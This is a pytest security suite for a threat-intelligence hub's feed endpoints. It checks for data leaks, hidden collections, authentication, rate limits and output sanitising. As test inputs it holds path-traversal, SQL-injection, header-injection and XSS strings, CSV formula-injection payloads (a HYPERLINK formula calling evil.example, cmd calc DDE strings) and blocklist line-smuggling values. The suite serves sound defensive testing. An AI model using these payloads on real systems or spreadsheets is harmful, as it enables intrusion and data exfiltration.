"""The flat feeds under attack: hidden data, hidden collections, hostile parameters and hostile values.

``/feeds/<root>/<collection>/<format>`` answers the same partners with the same keys as TAXII, so every
guarantee of the TAXII suite must hold here too: nothing the rules hide, no difference between a
hidden and an absent collection, the same authentication, limits and sharing boundaries.
"""

from __future__ import annotations

import csv
import io
import uuid

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import update

from hub import accounts
from hub import models as m
from hub.store import clock, snapshots
from tests import factories as f
from tests import test_sharing_property as prop
from tests.security.conftest import AMBER, GREEN, ONLY_CISA, RED, feed, feed_ids, same_but_ids
from tests.security.probes import basic, bearer

FORMATS = ("stix", "csv", "ecs", "ip.txt", "domain.txt", "url.txt", "sha256.txt")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def values_of(obj: dict) -> str:
    return obj["pattern"].split("'")[1]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("include", ["", "withdrawn"])
def test_feeds_never_carry_hidden_objects(world, fmt, include):
    params = {"include": include} if include else {}
    for slug in ("singcert", "mycert"):
        body = feed(world, slug, "shared", fmt, params).get_data(as_text=True)
        for obj in (world.hidden, world.red):
            assert obj["id"] not in body and obj["name"] not in body, (slug, fmt)
            if fmt in ("csv", "ecs", "ip.txt") and not include:
                assert values_of(obj) not in body, (slug, fmt)
    seen = feed(world, "cisa", "shared", "stix", params).get_data(as_text=True)
    assert world.hidden["id"] in seen and world.red["id"] in seen  # the partner the marking names does


def test_lower_clearance_gets_neither_amber_nor_red_in_any_format(world):
    ids = feed_ids(world, "mycert", "shared")
    assert world.visible["id"] in ids and world.hidden["id"] not in ids and world.red["id"] not in ids


UNREADABLE = [("rokus", None), ("by-alias", "rokus")]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(
    "params",
    [{}, {"since": "2020-01-01T00:00:00Z"}, {"include": "withdrawn"}, {"since": "garbage"}, {"include": "nope"}],
    ids=str,
)
def test_unreadable_collection_reads_byte_for_byte_like_an_absent_one(world, fmt, params):
    rokus_uuid = world.ids["rokus"]
    for hidden in (rokus_uuid, "rokus"):
        absent = str(uuid.uuid4()) if hidden == rokus_uuid else "zzzzz"
        got = feed(world, "singcert", hidden, fmt, params)
        reference = feed(world, "singcert", absent, fmt, params)
        same_but_ids(got, reference, hidden, absent)
        assert got.status_code in (400, 404)
    # The readers do get it, so the comparison above is between a hidden and an absent collection.
    assert feed(world, "krcert", "rokus", fmt).status_code == 200


def test_collection_of_another_api_root_is_absent(world):
    got = feed(world, "krcert", world.ids["shared"], "stix", root="otherroot")
    reference = feed(world, "krcert", str(uuid.uuid4()), "stix", root="otherroot")
    same_but_ids(got, reference, world.ids["shared"], reference.request.path.split("/")[3])
    assert got.status_code == 404


@pytest.mark.parametrize(
    "path",
    [
        "/feeds/../dprk/shared/stix",
        "/feeds/dprk/../dprk/shared/stix",
        "/feeds/dprk/shared/../rokus/stix",
        "/feeds/dprk/%2e%2e/shared/stix",
        "/feeds/dprk/shared/..%2fstix",
        "/feeds/dprk/shared/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/feeds/dprk/shared/stix%00",
        "/feeds/dprk/shared%00/stix",
        "/feeds/dprk%00/shared/stix",
        "/feeds/dprk/shared/STIX",
        "/feeds/dprk/shared/ip.txt.bak",
        "/feeds/dprk/shared/.txt",
        "/feeds/dprk/shared/" + "a" * 5000,
        "/feeds/dprk/" + "b" * 5000 + "/stix",
        "/feeds/" + "c" * 5000 + "/shared/stix",
        "/feeds/dprk/shared/stix/extra",
        "/feeds/dprk/shared",
        "/feeds/dprk/'%20OR%201=1--/stix",
        "/feeds/dprk/shared/%E2%80%AEtxt.pi",
        "/feeds/dprk/%F0%9F%92%A3/stix",
        "/feeds/dprk/shared/%ff%fe",
        "/feeds/dprk/rokus%0d%0aX-Evil:%201/stix",
        "/feeds/dprk/*/stix",
        "/feeds/*/*/stix",
    ],
)
def test_odd_paths_find_nothing_and_never_fail(world, path):
    response = world.app.test_client().get(path, headers=bearer(world.keys["singcert"]))
    assert response.status_code in (400, 404, 405), (path, response.status_code)
    body = response.get_data(as_text=True)
    assert world.hidden["id"] not in body and "Traceback" not in body and "X-Evil" not in response.headers


@pytest.mark.parametrize(
    "since",
    [
        "' OR 1=1--",
        "2024-01-01T00:00:00Z' OR '1'='1",
        "1; DROP TABLE object_versions",
        "9999-99-99T99:99:99Z",
        "0000-00-00T00:00:00Z",
        "-1",
        "1e309",
        "NaN",
        "2024-01-01T00:00:00Z\r\nX-Evil: 1",
        "2024-01-01\x00",
        "1" * 20_000,
        "2024-01-01T00:00:00." + "9" * 5000 + "Z",
        "%",
        "\\",
        "{}",
        "[]",
        "2024-01-01T00:00:00+99:99",
        "2024-02-30T00:00:00Z",
    ],
)
def test_hostile_since_is_a_clean_400(world, since):
    response = feed(world, "singcert", "shared", "csv", {"since": since})
    assert response.status_code == 400, (since, response.status_code)
    assert "since" in response.get_data(as_text=True)
    assert "X-Evil" not in response.headers and len(response.get_data()) < 200_000


@pytest.mark.parametrize(
    "since",
    [
        "0001-01-01T00:00:00Z",
        "1970-01-01T00:00:00Z",
        "9999-12-31T23:59:59.999999Z",
        "2024-01-01T00:00:00.000000001Z",
        "2024-01-01T09:00:00+09:00",
    ],
)
def test_extreme_since_values_serve_only_the_partners_view(world, since):
    response = feed(world, "singcert", "shared", "stix", {"since": since})
    assert response.status_code == 200
    ids = {o["id"] for o in orjson.loads(response.get_data())["objects"]}
    assert not ids & {world.hidden["id"], world.red["id"]}
    cursor = response.headers["X-Feed-Cursor"]
    again = feed(world, "singcert", "shared", "stix", {"since": cursor})
    assert again.status_code == 200


@pytest.mark.parametrize(
    "query",
    [
        "include=withdrawn&include=hidden",
        "include=hidden",
        "include=all",
        "include=withdrawn,hidden",
        "include=WITHDRAWN",
        "include[]=withdrawn",
        "include=withdrawn%00",
        "include=*",
        "include=" + "w" * 10_000,
        "since=2020-01-01T00:00:00Z&since=garbage",
        "include=withdrawn%0d%0aX-Evil:%201",
    ],
)
def test_include_and_repeated_parameters_cannot_widen_the_view(world, query):
    response = world.app.test_client().get(f"/feeds/dprk/shared/stix?{query}", headers=bearer(world.keys["singcert"]))
    assert response.status_code in (200, 400), (query, response.status_code)
    body = response.get_data(as_text=True)
    assert world.hidden["id"] not in body and world.red["id"] not in body and "X-Evil" not in response.headers
    assert len(body) < 20_000 or response.status_code == 200


# --------------------------------------------------------------------- hostile values in published objects


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def hostile(world) -> list[dict]:
    """Indicators from krcert whose names and values are spreadsheet formulas or smuggle extra lines."""
    objs = [
        f.indicator(
            7000 + n,
            markings=[GREEN],
            name=text,
            description=text,
            pattern=f"[domain-name:value = '{text.replace(chr(39), chr(92) + chr(39))}']",
        )
        for n, text in enumerate(HOSTILE)
    ]
    objs += [
        f.indicator(7100, markings=[GREEN], pattern="[domain-name:value = 'evil.example\n8.8.8.8\n*']"),
        f.indicator(7101, markings=[GREEN], pattern="[ipv4-addr:value = '203.0.113.5\n0.0.0.0/0']"),
        f.indicator(7102, markings=[GREEN], pattern="[url:value = 'http://evil.example/a\r\nhttp://bank.example/']"),
        f.indicator(7104, markings=[GREEN], pattern="[ipv4-addr:value = '=1+1']"),
    ]
    status = world.client("krcert").post(world.url("ind"), objs).get_json()
    assert status["success_count"] == len(objs), status["failures"]
    return objs


def test_csv_cells_never_start_a_formula(world, hostile):
    body = feed(world, "singcert", "ind", "csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body)))
    ours = [r for r in rows[1:] if r[0] in {o["id"] for o in hostile}]
    assert len(ours) == len(hostile)
    for row in ours:
        assert not [cell for cell in row if cell.startswith(FORMULA_START)], row
    # The value is still there for a reader, only made inert.
    assert any(row[3] == "'" + HOSTILE[0] for row in ours)


@pytest.mark.parametrize("fmt", ["ip.txt", "domain.txt", "url.txt", "sha256.txt"])
def test_blocklists_cannot_be_given_extra_lines(world, hostile, fmt):
    lines = feed(world, "singcert", "ind", fmt).get_data(as_text=True).splitlines()
    for smuggled in ("8.8.8.8", "*", "0.0.0.0/0", "http://bank.example/", "bank.example/", "ffff", "=1+1"):
        assert smuggled not in lines, (fmt, smuggled)
    assert all(line and line == line.strip() and line.isprintable() for line in lines), lines


def test_ecs_and_stix_keep_hostile_values_as_json_strings(world, hostile):
    for line in feed(world, "singcert", "ind", "ecs").get_data(as_text=True).splitlines():
        orjson.loads(line)  # one whole JSON document per line, whatever the values hold
    bundle = orjson.loads(feed(world, "singcert", "ind", "stix").get_data())
    assert {o["id"] for o in hostile} <= {o["id"] for o in bundle["objects"]}


# --------------------------------------------------------------------- authentication, exactly as TAXII


def assert_feed_401(response) -> None:  # type: ignore[no-untyped-def]
    assert response.status_code == 401, response.get_data()
    assert response.headers["WWW-Authenticate"].startswith("Basic")
    assert world_free(response)


def world_free(response) -> bool:  # type: ignore[no-untyped-def]
    body = response.get_data(as_text=True)
    return "indicator--" not in body and "bundle" not in body


def raw_feed(app, headers: dict, alias: str = "shared", fmt: str = "stix", remote: str = "127.0.0.1"):  # type: ignore[no-untyped-def]
    return app.test_client().get(f"/feeds/dprk/{alias}/{fmt}", headers=headers, environ_base={"REMOTE_ADDR": remote})


def test_no_credentials_and_bad_credentials_are_a_401(world):
    for headers in (
        {},
        bearer("chub_wrong"),
        basic("krcert", world.keys["cisa"]),
        {"Authorization": "Basic !!"},
        bearer(world.keys["krcert"] + "x"),
        basic(world.keys["krcert"], ""),
    ):
        assert_feed_401(raw_feed(world.app, headers))


def test_suspended_partner_revoked_and_expired_keys_are_refused(world):
    secret = world.new_partner("feedcert")
    assert raw_feed(world.app, bearer(secret)).status_code == 200
    world.suspend("feedcert")
    assert_feed_401(raw_feed(world.app, bearer(secret)))
    with world.hub.session() as s:
        key_id, revoked = accounts.create_key(s, world.hub.pepper, "cisa")
        accounts.revoke_key(s, key_id)
        key_id, expired = accounts.create_key(s, world.hub.pepper, "cisa", expires_days=1)
        s.execute(update(m.ApiKey).where(m.ApiKey.key_id == key_id).values(expires_us=clock.now_us() - 1))
    assert_feed_401(raw_feed(world.app, bearer(revoked)))
    assert_feed_401(raw_feed(world.app, basic(key_id, expired)))


def test_cidr_limited_key_and_spoofed_forwarding_headers(world):
    secret = f.key_for(world.hub, "krcert", cidrs="10.0.0.0/8")
    assert raw_feed(world.app, bearer(secret), remote="10.9.9.9").status_code == 200
    spoofed = {**bearer(secret), "X-Forwarded-For": "10.1.2.3", "X-Real-IP": "10.1.2.3", "Forwarded": "for=10.1.2.3"}
    assert_feed_401(raw_feed(world.app, spoofed, remote="192.0.2.1"))
    proxied = world.make_app(trusted_proxies=1)
    assert raw_feed(proxied, {**bearer(secret), "X-Forwarded-For": "10.1.2.3"}, remote="192.0.2.1").status_code == 200
    assert_feed_401(
        raw_feed(proxied, {**bearer(secret), "X-Forwarded-For": "10.1.2.3, 203.0.113.9"}, remote="192.0.2.1")
    )


def test_failed_feed_logins_are_limited_and_audited_without_the_secret(world):
    app, peer = world.make_app(login_failure_limit=3), "192.0.2.210"
    for n in range(3):
        assert_feed_401(
            raw_feed(
                app, {**basic(b"kr\r\nFORGED\x00", f"chub_wrong{n}"), "X-Forwarded-For": f"198.51.100.{n}"}, remote=peer
            )
        )
    limited = raw_feed(app, bearer("chub_wrong"), remote=peer)
    assert limited.status_code == 429 and int(limited.headers["Retry-After"]) > 0
    with world.hub.session(write=False) as s:
        from sqlalchemy import select

        events = s.scalars(
            select(m.AuditEvent).where(m.AuditEvent.action == "login.failed", m.AuditEvent.source == peer)
        ).all()
    assert len(events) == 3
    assert all("chub_wrong" not in e.detail + e.actor and not set("\r\n\x00") & set(e.actor) for e in events)


def test_feeds_spend_the_keys_rate_limit(world):
    app = world.make_app(rate_limit_per_minute=3)
    statuses = [raw_feed(app, bearer(world.keys["cisa"]), fmt=fmt).status_code for fmt in ("stix", "csv", "ip.txt")]
    assert statuses == [200, 200, 200]
    limited = raw_feed(app, bearer(world.keys["cisa"]), fmt="ecs")
    assert limited.status_code == 429 and 1 <= int(limited.headers["Retry-After"]) <= 60
    assert world_free(limited)
    # The same budget as TAXII: the key is limited there too, another key is not.
    assert f.Client(app.test_client(), world.keys["cisa"]).get("/taxii2/").status_code == 429
    assert raw_feed(app, bearer(world.keys["krcert"])).status_code == 200


def test_hostile_request_ids_are_not_reflected(world):
    for sent in ("x" * 500, "a b", "<script>alert(1)</script>", "id\x00nul", "\u00e9t\u00e9"):
        response = world.app.test_client().get(
            "/feeds/dprk/shared/stix", headers={**bearer(world.keys["singcert"]), "X-Request-ID": sent}
        )
        assert response.status_code == 200
        assert response.headers["X-Request-ID"] != sent and response.headers["X-Request-ID"].isalnum()


# --------------------------------------------------------------------- the same boundary as TAXII


def taxii_ids(world, slug: str, alias: str) -> set[str]:
    client, url, out = world.client(slug), world.url(alias), set()
    response = client.get(url, {"limit": 2})
    for _ in range(1000):
        body = response.get_json()
        out |= {o["id"] for o in body.get("objects", [])}
        if not body.get("more"):
            return out
        response = client.get(url, {"limit": 2, "next": body["next"]})
    raise AssertionError("paging does not end")


@pytest.mark.parametrize("slug", ["krcert", "cisa", "singcert", "mycert"])
def test_feed_and_taxii_deliver_the_same_objects_to_each_partner(world, slug):
    for alias in ("shared", "rokus", "ind", "reference"):
        response = feed(world, slug, alias, "stix", {"include": "withdrawn"})
        if response.status_code == 404:
            assert world.client(slug).get(world.url(alias)).status_code == 404
            continue
        assert feed_ids(world, slug, alias, include="withdrawn") == taxii_ids(world, slug, alias), (slug, alias)


def test_amber_and_red_never_reach_a_partner_below_them(world):
    for marking, slug in ((AMBER, "mycert"), (RED, "singcert")):
        obj = f.indicator(7200 + len(slug), markings=[marking, ONLY_CISA])
        assert world.client("krcert").post(world.url("shared"), [obj]).get_json()["success_count"] == 1
        for fmt in FORMATS:
            assert obj["id"] not in feed(world, slug, "shared", fmt, {"include": "withdrawn"}).get_data(as_text=True)


# --------------------------------------------------------------------- generated worlds


fresh_app = prop.fresh_app  # a new database per hypothesis example


def feed_view(app, key: str, col_uuid: str, fmt: str):  # type: ignore[no-untyped-def]
    return app.test_client().get(
        f"/feeds/{prop.ROOT}/{col_uuid}/{fmt}", query_string={"include": "withdrawn"}, headers=bearer(key)
    )


def check_feeds_match_taxii(app, spec, uuids: dict, key: str, slug: str) -> None:  # type: ignore[no-untyped-def]
    client = f.Client(app.test_client(), key)
    for c in spec.all_collections():
        url = prop.collection_url(uuids[c.alias])
        bundle, table = feed_view(app, key, uuids[c.alias], "stix"), feed_view(app, key, uuids[c.alias], "csv")
        if client.get(url + "objects/").status_code != 200:
            assert bundle.status_code == table.status_code in (401, 404), (slug, c.alias)
            continue
        taxii = prop.pull(client, url + "objects/", {}, spec.page_limit, resend=False)
        assert bundle.status_code == 200 and table.status_code == 200
        assert prop.object_pairs(orjson.loads(bundle.get_data())["objects"]) == prop.object_pairs(taxii), slug
        csv_ids = sorted(row[0] for row in list(csv.reader(io.StringIO(table.get_data(as_text=True))))[1:])
        assert csv_ids == sorted(o["id"] for o in taxii if o["type"] == "indicator"), slug


@settings(
    max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(spec=prop.world_specs(), data=st.data())
def test_feeds_release_exactly_what_taxii_releases(fresh_app, spec, data):
    """In generated worlds (one partner possibly a peer hub) every partner's feeds equal its TAXII pull."""
    app = fresh_app()
    hub = app.extensions["cti_hub"]
    try:
        pks, uuids, keys = prop.build_world(hub, spec)
        prop.publish(hub, spec, pks, uuids)
        prop.apply_later_changes(hub, spec, uuids)
        peer = data.draw(st.none() | st.sampled_from([p.slug for p in spec.partners]), label="peer hub")
        if peer is not None:
            with hub.session() as s:
                s.execute(update(m.Partner).where(m.Partner.slug == peer).values(kind="hub"))
                snapshots.bump_rules(s)
        for p in spec.partners:
            check_feeds_match_taxii(app, spec, uuids, keys[p.slug], p.slug)
    finally:
        hub.engine.dispose()
